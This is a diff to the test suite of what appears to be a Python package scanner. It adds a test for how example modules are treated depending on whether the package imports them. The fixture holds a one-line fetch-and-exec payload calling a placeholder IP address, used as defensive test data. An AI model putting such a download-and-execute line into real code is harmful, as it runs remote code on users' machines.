@@ -102,6 +102,16 @@ def test_modules_that_import_each_other_are_sieved_together() -> None:
     assert any(rule == "second-stage" for rule, _, _ in _reported(files, sieved=True))
 
 
+def test_an_example_that_nothing_imports_runs_when_somebody_runs_it() -> None:
+    """Its module level is no import of the package; it is one as soon as a module of the package imports it."""
+    chain = b"import urllib.request\nexec(urllib.request.urlopen('http://192.0.2.7/a').read())\n"
+    alone = [_member("p/__init__.py", b""), _member("p/examples/first.py", chain)]
+    named = [_member("p/__init__.py", b"from .examples import first\n"), _member("p/examples/first.py", chain)]
+    wheel = distribution_name(_WHEEL)
+    assert select(assign_roles(alone, wheel)).aside == {"p/examples/first.py"}
+    assert select(assign_roles(named, wheel)).aside == frozenset()
+
+
 @pytest.mark.parametrize(
     "source",
     [
